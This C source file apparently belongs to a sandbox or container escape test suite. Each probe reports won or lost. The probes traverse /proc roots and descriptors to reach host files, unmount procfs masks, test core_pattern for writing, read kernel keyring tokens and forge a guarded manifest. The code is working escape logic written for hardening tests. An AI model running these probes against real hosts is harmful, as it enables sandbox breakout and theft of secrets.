/* The kernel's own files, and its keys. */
#include "attack.h"
#include <dirent.h>
#include <sys/mount.h>

#define KEYCTL_LINK 8
#define KEYCTL_SEARCH 10
#define KEYCTL_READ 11
#define KEYCTL_SET_TIMEOUT 15
#define SESSION (-3)
#define USER (-4)

/* proc_root SECRET: the root, directory or a descriptor of any process that /proc shows. */
ATTACK(proc_root)
{
    (void)argc;
    static const char *ways[] = {"root", "cwd", "fd/0", "fd/1", "fd/2", "fd/3", "fd/4",
                                 "fd/5", "fd/6", "fd/7", "fd/8", "exe"};
    char path[4096], up[256] = "";
    for (int i = 0; i < 32; i++)
        strcat(up, "../");
    DIR *processes = opendir("/proc");
    if (!processes)
        return lost("/proc");
    for (struct dirent *one; (one = readdir(processes));) {
        if (one->d_name[0] < '1' || one->d_name[0] > '9')
            continue;
        for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
            snprintf(path, sizeof path, "/proc/%s/%s/%s%s", one->d_name, ways[i], up, argv[1] + 1);
            if (!access(path, R_OK))
                return show(AT_FDCWD, path);
        }
    }
    errno = EACCES;
    return lost("every process's root, directory and descriptors");
}

/* write_same PATH [PREFIX]: write to a file of the kernel what it says already. */
ATTACK(write_same)
{
    char text[256] = "";
    int fd = open(argv[1], O_RDONLY);
    if (fd >= 0 && read(fd, text, sizeof text - 1) < 0)
        text[0] = 0;
    if (argc > 2) /* only opened: to write to it would do something */
        fd = open(argv[1], O_WRONLY);
    else
        fd = put(argv[1], text);
    if (fd < 0)
        return lost(argv[1]);
    return won("wrote %s", argv[1]);
}

/* read_any PATH...: files that tell of the host's memory, keys and timers. */
ATTACK(read_any)
{
    char text[4096];
    int found = 0;
    for (int i = 1; i < argc; i++) {
        int fd = open(argv[i], O_RDONLY | O_NONBLOCK);
        if (fd < 0)
            continue;
        /* A mask reads as nothing at all. */
        if (read(fd, text, sizeof text) > 0) {
            printf("%s can be read\n", argv[i]);
            found++;
        }
        close(fd);
    }
    errno = EACCES;
    return found ? won("%d of %d files of the kernel can be read", found, argc - 1)
                 : lost("every file");
}

/* unmasked DIRECTORY...: some procfs of these shows what should be hidden, or can be written. */
ATTACK(unmasked)
{
    static const char *hidden[] = {"timer_list", "keys", "kcore"};
    char path[4096], byte;
    for (int i = 1; i < argc; i++) {
        for (size_t j = 0; j < sizeof hidden / sizeof *hidden; j++) {
            snprintf(path, sizeof path, "%s/%s", argv[i], hidden[j]);
            umount2(path, MNT_DETACH);
            int fd = open(path, O_RDONLY | O_NONBLOCK);
            if (fd >= 0 && read(fd, &byte, 1) > 0)
                return won("%s is not hidden", path);
        }
        snprintf(path, sizeof path, "%s/sys/kernel/core_pattern", argv[i]);
        int fd = open(path, O_WRONLY);
        if (fd >= 0)
            return won("%s can be written", path);
    }
    errno = EACCES;
    return lost("every procfs");
}

/* chmod_mask PATH...: what hides a file is itself a file, of the host: change its mode. */
ATTACK(chmod_mask)
{
    for (int i = 1; i < argc; i++) {
        struct stat found;
        if (stat(argv[i], &found) || !S_ISCHR(found.st_mode))
            continue;
        /* To what it is already: the time of the change shows it, and nobody is disturbed. */
        chmod(argv[i], found.st_mode & 07777);
    }
    return lost("whose they were the host knows");
}

/* keyring_with TOKEN COMMAND...: outside: keep a key as a login session does, and go on. */
ATTACK(keyring_with)
{
    (void)argc;
    long key = syscall(SYS_add_key, "user", "attack:token", argv[1], strlen(argv[1]), USER);
    if (key < 0 || syscall(SYS_keyctl, KEYCTL_SET_TIMEOUT, key, 30))
        return lost("add_key");
    execvp(argv[2], argv + 2);
    return lost("exec");
}

/* keyring: read the key of whoever started us. */
ATTACK(keyring)
{
    (void)argc, (void)argv;
    char text[256] = "";
    syscall(SYS_keyctl, KEYCTL_LINK, USER, SESSION);
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, SESSION, "user", "attack:token", 0);
    if (key < 0)
        key = syscall(SYS_keyctl, KEYCTL_SEARCH, USER, "user", "attack:token", 0);
    if (key < 0)
        return lost("keyctl search");
    if (syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text - 1) < 0)
        return lost("keyctl read");
    return won("read the key: %s", text);
}

/* move_manifest: put a manifest of our own in place of the one that is guarded. */
ATTACK(move_manifest)
{
    (void)argc, (void)argv;
    if (rename("/var/lib/rootgen", "/var/lib/moved") && rename("/var/lib", "/var/moved"))
        return lost("rename");
    mkdir("/var/lib", 0755);
    mkdir("/var/lib/rootgen", 0755);
    int fd = open("/var/lib/rootgen/manifest.json", O_WRONLY | O_CREAT, 0644);
    if (fd < 0 || write(fd, "forged", 6) != 6)
        return lost("write");
    return won("another manifest is in its place");
}
